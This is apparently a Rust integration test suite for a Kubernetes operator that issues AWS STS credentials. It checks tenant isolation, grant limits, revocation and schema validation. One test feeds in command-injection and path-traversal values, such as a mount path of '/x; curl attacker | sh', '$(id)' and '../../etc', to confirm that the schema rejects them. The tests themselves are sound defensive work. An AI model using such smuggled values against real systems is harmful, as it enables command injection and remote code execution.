//! Tenant-proof: what a binding author in one namespace can and cannot reach (README
//! "Security model"), each hole closed and proven against the real apiserver and STS peer.

use std::time::Duration;

use crate::harness::*;

/// A grant named after the namespace, with `spec` lines (indented two spaces).
fn apply_grant(ns: &TestNamespace, spec: &str) {
    let yaml = format!(
        "apiVersion: kube-sts.io/v1alpha1\nkind: AWSRoleGrant\nmetadata: {{name: {}}}\nspec:\n  namespaces: [{}]\n{spec}",
        ns.name, ns.name
    );
    let out = kubectl(&["apply", "--server-side", "-f", "-"], Some(&yaml));
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

fn binding(name: &str, spec: &str) -> String {
    format!("apiVersion: kube-sts.io/v1alpha1\nkind: AWSRoleBinding\nmetadata: {{name: {name}}}\nspec:\n{spec}")
}

/// The access key ID that signed a raw request (`Credential=<key>/...` in Authorization).
fn signing_key(raw: &str) -> String {
    let (_, rest) = raw
        .split_once("Credential=")
        .unwrap_or_else(|| panic!("unsigned request: {raw}"));
    rest.split('/').next().unwrap().to_string()
}

/// Asserts the apiserver refuses every `(yaml, expected message)` and stores nothing.
async fn assert_refused(ns: &TestNamespace, cases: &[(String, String)]) {
    for (yaml, expected) in cases {
        let out = ns.apply(yaml);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "accepted but should not be:\n{yaml}");
        assert!(
            stderr.contains(expected.as_str()),
            "rejection of\n{yaml}\nshould say {expected:?}, got: {stderr}"
        );
    }
    assert!(ns.bindings().list(&Default::default()).await.unwrap().items.is_empty());
}

const ROLE: &str = "arn:aws:iam::123456789012:role/r";

#[tokio::test]
async fn session_methods_are_signed_by_the_teams_own_iam_user() {
    let ns = TestNamespace::new("srccreds").await;
    ns.service_account("app").await;
    apply_grant(
        &ns,
        "  roleArns: [\"*\"]\n  methods: [GetSessionToken, GetFederationToken]\n",
    );
    let user = ns
        .team_keys("team-keys", &["sts:GetSessionToken", "sts:GetFederationToken"])
        .await;
    let sts = Forwarder::start().await;
    let operator = Operator::start(&ns.name, &sts, &[]);

    // Without the team's keys (and without --allow-operator-identity): no STS call at all.
    ns.apply_ok(&binding(
        "nokeys",
        "  method: GetSessionToken\n  subjects: [{name: app}]\n",
    ));
    let message = wait_ready(&ns.bindings(), "nokeys", "False", "InvalidSpec").await;
    assert!(message.contains("needs sourceCredentialsSecretRef"), "{message}");
    ns.apply_ok(&binding(
        "missing",
        "  method: GetSessionToken\n  subjects: [{name: app}]\n  sourceCredentialsSecretRef: {name: nope}\n",
    ));
    let message = wait_ready(&ns.bindings(), "missing", "False", "InvalidSpec").await;
    assert!(message.contains("Secret nope not found"), "{message}");
    assert_eq!(sts.total(), 0);

    let policy = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}]}"#;
    ns.apply_ok(&binding(
        "session",
        "  method: GetSessionToken\n  subjects: [{name: app}]\n  sourceCredentialsSecretRef: {name: team-keys}\n",
    ));
    ns.apply_ok(&binding(
        "federated",
        &format!(
            "  method: GetFederationToken\n  subjects: [{{name: app}}]\n  sessionPolicy: '{policy}'\n  sourceCredentialsSecretRef: {{name: team-keys}}\n"
        ),
    ));
    wait_ready(&ns.bindings(), "session", "True", "CredentialsIssued").await;
    wait_ready(&ns.bindings(), "federated", "True", "CredentialsIssued").await;
    let operator_key = &env().aws["AWS_ACCESS_KEY_ID"];
    for action in ["GetSessionToken", "GetFederationToken"] {
        let sent = sts.raw(action);
        assert_eq!(sent.len(), 1, "{action}");
        assert_eq!(
            signing_key(&sent[0]),
            user.access_key_id,
            "{action} signed by the team's user"
        );
        assert_ne!(&signing_key(&sent[0]), operator_key);
    }
    let st = ns.bindings().get("federated").await.unwrap().status.unwrap();
    let arn = st.subjects[0].arn.clone().unwrap();
    assert!(arn.contains(":federated-user/"), "{arn}");
    // The team's secret key is in no log.
    assert!(!operator.logs().contains(&user.secret_access_key));
}

#[tokio::test]
async fn the_operators_identity_needs_the_flag_and_a_grant_that_says_so() {
    let ns = TestNamespace::new("opident").await;
    ns.service_account("app").await;
    apply_grant(&ns, "  roleArns: [\"*\"]\n  methods: [GetSessionToken]\n");
    let sts = Forwarder::start().await;
    let _operator = Operator::start(&ns.name, &sts, &["--allow-operator-identity"]);
    ns.apply_ok(&binding("op", "  method: GetSessionToken\n  subjects: [{name: app}]\n"));
    let message = wait_ready(&ns.bindings(), "op", "False", "RoleNotGranted").await;
    assert!(message.contains("allowOperatorIdentity"), "{message}");
    assert_eq!(sts.total(), 0);
    apply_grant(
        &ns,
        "  roleArns: [\"*\"]\n  methods: [GetSessionToken]\n  allowOperatorIdentity: true\n",
    );
    wait_ready(&ns.bindings(), "op", "True", "CredentialsIssued").await;
    let sent = sts.raw("GetSessionToken");
    assert_eq!(sent.len(), 1);
    assert_eq!(signing_key(&sent[0]), env().aws["AWS_ACCESS_KEY_ID"]);
}

#[tokio::test]
async fn fields_a_method_does_not_use_are_refused_naming_the_field() {
    let ns = TestNamespace::new("ignored").await;
    let keys = "  sourceCredentialsSecretRef: {name: k}\n";
    let cases: Vec<(String, String)> = [
        (
            format!("  method: GetSessionToken\n  subjects: [{{name: a}}]\n{keys}  sessionPolicy: '{{}}'\n"),
            "sessionPolicy is only used with method AssumeRole or AssumeRoleWithWebIdentity or GetFederationToken",
        ),
        (
            format!("  method: GetSessionToken\n  subjects: [{{name: a}}]\n{keys}  policyArns: [arn:aws:iam::aws:policy/ReadOnlyAccess]\n"),
            "policyArns is only used with method",
        ),
        (
            format!("  method: GetSessionToken\n  subjects: [{{name: a}}]\n{keys}  sessionTags: {{team: a}}\n"),
            "sessionTags is only used with method AssumeRole or GetFederationToken",
        ),
        (
            format!("  method: GetFederationToken\n  subjects: [{{name: a}}]\n{keys}  sessionPolicy: '{{}}'\n  sourceIdentity: x.y\n"),
            "sourceIdentity is only used with method AssumeRole",
        ),
        (
            format!("  method: GetFederationToken\n  subjects: [{{name: a}}]\n{keys}  sessionPolicy: '{{}}'\n  roleArn: {ROLE}\n"),
            "roleArn is only used with method AssumeRole or AssumeRoleWithWebIdentity",
        ),
        (
            format!("  method: AssumeRoleWithWebIdentity\n  roleArn: {ROLE}\n  subjects: [{{name: a}}]\n  externalId: abcdef\n"),
            "externalId is only used with method AssumeRole",
        ),
        (
            format!("  method: AssumeRoleWithWebIdentity\n  roleArn: {ROLE}\n  subjects: [{{name: a}}]\n  sessionTags: {{team: a}}\n"),
            "sessionTags is only used with method",
        ),
        (
            format!("  roleArn: {ROLE}\n  subjects: [{{name: a}}]\n  webIdentity: {{audience: x}}\n"),
            "webIdentity is only used with method AssumeRoleWithWebIdentity",
        ),
        (
            format!("  roleArn: {ROLE}\n  subjects: [{{name: a}}]\n  federation: {{name: xy}}\n"),
            "federation is only used with method GetFederationToken",
        ),
        (
            format!("  roleArn: {ROLE}\n  subjects: [{{name: a}}]\n{keys}"),
            "sourceCredentialsSecretRef is only used with method GetSessionToken or GetFederationToken",
        ),
    ]
    .into_iter()
    .map(|(spec, expected)| (binding("ignored", &spec), expected.to_string()))
    .collect();
    assert_refused(&ns, &cases).await;
}

#[tokio::test]
async fn a_grants_cap_holds_when_the_binding_sets_no_duration() {
    let ns = TestNamespace::new("cap").await;
    ns.service_account("app").await;
    let role = create_role(&unique("role"), &operator_arn(), None, true);
    apply_grant(&ns, &format!("  roleArns: [\"{role}\"]\n  maxDurationSeconds: 900\n"));
    let sts = Forwarder::start().await;
    let _operator = Operator::start(&ns.name, &sts, &[]);
    ns.apply_ok(&binding_yaml("b", &role, &["app"], ""));
    wait_ready(&ns.bindings(), "b", "True", "CredentialsIssued").await;
    let sent = sts.requests("AssumeRole");
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].get("DurationSeconds").map(String::as_str), Some("900"));
    let st = ns.bindings().get("b").await.unwrap().status.unwrap();
    let subject = &st.subjects[0];
    let lifetime = subject
        .expiration
        .as_ref()
        .unwrap()
        .0
        .duration_since(subject.issued_at.as_ref().unwrap().0);
    // Issued at the answer's arrival (in STS's time, to the fraction of a second), expiring
    // at STS's whole second: the status shows 900 s, or 899 s when the answer arrived in the
    // second after the one STS issued it in. Never more than the cap.
    assert!(
        (899..=900).contains(&lifetime.as_secs()),
        "lifetime {} s, capped at 900 s",
        lifetime.as_secs()
    );
}

#[tokio::test]
async fn identity_attributes_carry_the_namespace_unless_a_grant_widens_them() {
    let ns = TestNamespace::new("names").await;
    ns.service_account("app").await;
    let role = create_role(&unique("role"), &operator_arn(), None, true);
    apply_grant(&ns, &format!("  roleArns: [\"{role}\"]\n"));
    let sts = Forwarder::start().await;
    let _operator = Operator::start(&ns.name, &sts, &[]);
    let hostile = [
        (
            "sname",
            "  sessionName: other-team.reports\n",
            "sessionName other-team.reports must start with",
        ),
        (
            "sident",
            "  sourceIdentity: ci-admin\n",
            "sourceIdentity ci-admin must start with",
        ),
        (
            "tags",
            "  sessionTags: {team: other}\n",
            "session tag key(s) team are not listed in sessionTagKeys",
        ),
    ];
    for (name, extra, _) in hostile {
        ns.apply_ok(&binding_yaml(name, &role, &["app"], extra));
    }
    for (name, _, expected) in hostile {
        let message = wait_ready(&ns.bindings(), name, "False", "RoleNotGranted").await;
        assert!(message.contains(expected), "{name}: {message}");
    }
    assert_eq!(sts.total(), 0);

    // The namespace's own prefix needs no grant.
    let own = format!("{}.reports", ns.name);
    ns.apply_ok(&binding_yaml(
        "own",
        &role,
        &["app"],
        &format!("  sessionName: {own}\n"),
    ));
    wait_ready(&ns.bindings(), "own", "True", "CredentialsIssued").await;
    assert_eq!(sts.requests("AssumeRole")[0]["RoleSessionName"], own);

    // A grant widens both: the waiting bindings are issued from the grant's watch.
    apply_grant(
        &ns,
        &format!("  roleArns: [\"{role}\"]\n  sessionNames: [\"ci-*\"]\n  sessionTagKeys: [team]\n"),
    );
    wait_ready(&ns.bindings(), "sident", "True", "CredentialsIssued").await;
    wait_ready(&ns.bindings(), "tags", "True", "CredentialsIssued").await;
    let message = wait_ready(&ns.bindings(), "sname", "False", "RoleNotGranted").await;
    assert!(message.contains("sessionName other-team.reports"), "{message}");
    let sent = sts.requests("AssumeRole");
    assert!(
        sent.iter()
            .any(|p| p.get("SourceIdentity").map(String::as_str) == Some("ci-admin"))
    );
    assert!(sent.iter().any(|p| {
        p.iter()
            .any(|(k, v)| k.starts_with("Tags.member.") && k.ends_with(".Key") && v == "team")
    }));
}

#[tokio::test]
async fn an_empty_namespace_selector_is_refused() {
    let name = unique("emptysel");
    for selector in ["{}", "{matchLabels: {}}", "{matchExpressions: []}"] {
        let yaml = format!(
            "apiVersion: kube-sts.io/v1alpha1\nkind: AWSRoleGrant\nmetadata: {{name: {name}}}\nspec:\n  namespaceSelector: {selector}\n  roleArns: [\"*\"]\n"
        );
        let out = kubectl(&["apply", "--server-side", "-f", "-"], Some(&yaml));
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!out.status.success(), "accepted: {yaml}");
        assert!(stderr.contains("namespaceSelector must not be empty"), "{stderr}");
    }
    let out = kubectl(&["get", "awsrolegrant", &name], None);
    assert!(!out.status.success(), "a grant was stored");
}

#[tokio::test]
async fn references_are_read_only_for_granted_bindings_and_revocation_always_revokes() {
    let ns = TestNamespace::new("refs").await;
    ns.service_account("app").await;
    let role = create_role(&unique("role"), &operator_arn(), Some("the-id"), true);
    let sts = Forwarder::start().await;
    let operator = Operator::start(&ns.name, &sts, &[]);
    // Not granted: the reference is never read (its absence is not even reported).
    ns.apply_ok(&binding_yaml(
        "b",
        &role,
        &["app"],
        "  externalIdSecretRef: {name: ext, key: id}\n",
    ));
    let message = wait_ready(&ns.bindings(), "b", "False", "RoleNotGranted").await;
    assert!(!message.contains("ext"), "{message}");

    ns.create_secret("ext", &[("id", "the-id")]).await;
    apply_grant(&ns, &format!("  roleArns: [\"{role}\"]\n"));
    wait_ready(&ns.bindings(), "b", "True", "CredentialsIssued").await;
    assert_eq!(managed_secrets(&ns).await.len(), 1);

    // The reference breaks, then the grant goes: the binding is revoked all the same.
    ns.secrets().delete("ext", &Default::default()).await.unwrap();
    assert!(kubectl(&["delete", "awsrolegrant", &ns.name], None).status.success());
    wait_ready(&ns.bindings(), "b", "False", "RoleNotGranted").await;
    eventually("revoked Secret deleted", Duration::from_secs(30), || async {
        managed_secrets(&ns).await.is_empty().then_some(())
    })
    .await;
    // Revoked: no metric series of the subject is left to look healthy.
    let metrics = operator.metrics().await;
    assert!(!metrics.contains("binding=\"b\""), "{metrics}");
}

#[tokio::test]
async fn shell_metacharacters_in_rendered_values_are_refused() {
    let ns = TestNamespace::new("inject").await;
    let good = format!("  roleArn: {ROLE}\n  subjects: [{{name: a}}]\n");
    let cases: Vec<(String, String)> = [
        (
            "  secret: {mountPath: '/x; curl attacker | sh'}\n",
            "spec.secret.mountPath",
        ),
        ("  secret: {mountPath: '/x/$(id)'}\n", "spec.secret.mountPath"),
        ("  secret: {mountPath: '/x`id`'}\n", "spec.secret.mountPath"),
        (
            "  secret: {mountPath: '/x/../../etc'}\n",
            "mountPath must not contain .. segments",
        ),
        ("  secret: {profile: 'p]\\n[default'}\n", "spec.secret.profile"),
        ("  region: 'us-east-1; id'\n", "spec.region"),
    ]
    .into_iter()
    .map(|(extra, expected)| (binding("inject", &format!("{good}{extra}")), expected.to_string()))
    .collect();
    assert_refused(&ns, &cases).await;
    // What a path needs stays allowed.
    ns.apply_ok(&binding(
        "fine",
        &format!("{good}  secret: {{mountPath: /var/run/secrets/aws_creds-1.d}}\n"),
    ));
}

#[tokio::test]
async fn values_sts_refuses_are_refused_by_the_schema() {
    let ns = TestNamespace::new("stslimits").await;
    let good = format!("  roleArn: {ROLE}\n  subjects: [{{name: a}}]\n");
    let long = "v".repeat(257);
    let cases: Vec<(String, String)> = [
        ("  sessionTags: {team: 'a;b'}\n".to_string(), "spec.sessionTags.team"),
        ("  sessionTags: {team: '$(id)'}\n".to_string(), "spec.sessionTags.team"),
        (format!("  sessionTags: {{team: {long}}}\n"), "spec.sessionTags.team"),
        (
            "  sessionTags: {'aws:team': a}\n".to_string(),
            "keys starting with aws: are reserved",
        ),
        (
            "  sessionTags: {'AWS:team': a}\n".to_string(),
            "keys starting with aws: are reserved",
        ),
    ]
    .into_iter()
    .map(|(extra, expected)| (binding("limits", &format!("{good}{extra}")), expected.to_string()))
    .collect();
    assert_refused(&ns, &cases).await;
    // AWS's whole character set passes the schema.
    let rich = binding(
        "rich",
        &format!("{good}  sessionTags: {{'team:x': 'a b:c/d=e+f@g-h_i.j'}}\n"),
    );
    let out = kubectl(
        &["apply", "-n", &ns.name, "--server-side", "--dry-run=server", "-f", "-"],
        Some(&rich),
    );
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    // Keys equal but for case are past what CEL may cost: the operator refuses them, with no
    // STS call; distinct keys are issued.
    ns.service_account("a").await;
    let role = create_role(&unique("role"), &operator_arn(), None, true);
    apply_grant(&ns, &format!("  roleArns: [\"{role}\"]\n  sessionTagKeys: [\"*\"]\n"));
    let sts = Forwarder::start().await;
    let _operator = Operator::start(&ns.name, &sts, &[]);
    let subject = "  subjects: [{name: a}]\n";
    ns.apply_ok(&binding(
        "case",
        &format!("  roleArn: {role}\n{subject}  sessionTags: {{Team: a, team: b}}\n"),
    ));
    let message = wait_ready(&ns.bindings(), "case", "False", "InvalidSpec").await;
    assert!(message.contains("Team and team differ only in case"), "{message}");
    assert_eq!(sts.total(), 0);
    ns.apply_ok(&binding(
        "fine",
        &format!("  roleArn: {role}\n{subject}  sessionTags: {{Team: a, teams: platform-a_1.x}}\n"),
    ));
    wait_ready(&ns.bindings(), "fine", "True", "CredentialsIssued").await;
}

#[tokio::test]
async fn an_sts_validation_error_is_final_until_the_spec_changes() {
    let ns = TestNamespace::new("final").await;
    ns.service_account("app").await;
    let role = create_role(&unique("role"), &operator_arn(), None, true);
    apply_grant(&ns, &format!("  roleArns: [\"{role}\"]\n"));
    let sts = Forwarder::start().await;
    sts.fail_with(Some((
        "ValidationError",
        "1 validation error detected: Value at 'policy' failed to satisfy constraint",
    )));
    let operator = Operator::start(&ns.name, &sts, &[]);
    ns.apply_ok(&binding_yaml("b", &role, &["app"], ""));
    let message = wait_ready(&ns.bindings(), "b", "False", "InvalidSpec").await;
    assert!(message.contains("failed to satisfy constraint"), "{message}");
    let st = ns.bindings().get("b").await.unwrap().status.unwrap();
    assert_eq!(st.subjects[0].consecutive_failures, 1);
    assert_eq!(st.subjects[0].next_refresh_time, None, "no retry is planned");
    assert_eq!(sts.count("AssumeRole"), 1);

    // STS would answer now, but the same spec is not asked again, whatever wakes the binding.
    sts.fail_with(None);
    operator.touch(&ns.bindings(), "b", "1").await;
    assert_eq!(sts.count("AssumeRole"), 1);
    wait_ready(&ns.bindings(), "b", "False", "InvalidSpec").await;

    // A changed spec is asked once.
    ns.apply_ok(&binding_yaml("b", &role, &["app"], "  durationSeconds: 1800\n"));
    wait_ready(&ns.bindings(), "b", "True", "CredentialsIssued").await;
    assert_eq!(sts.count("AssumeRole"), 2);
}
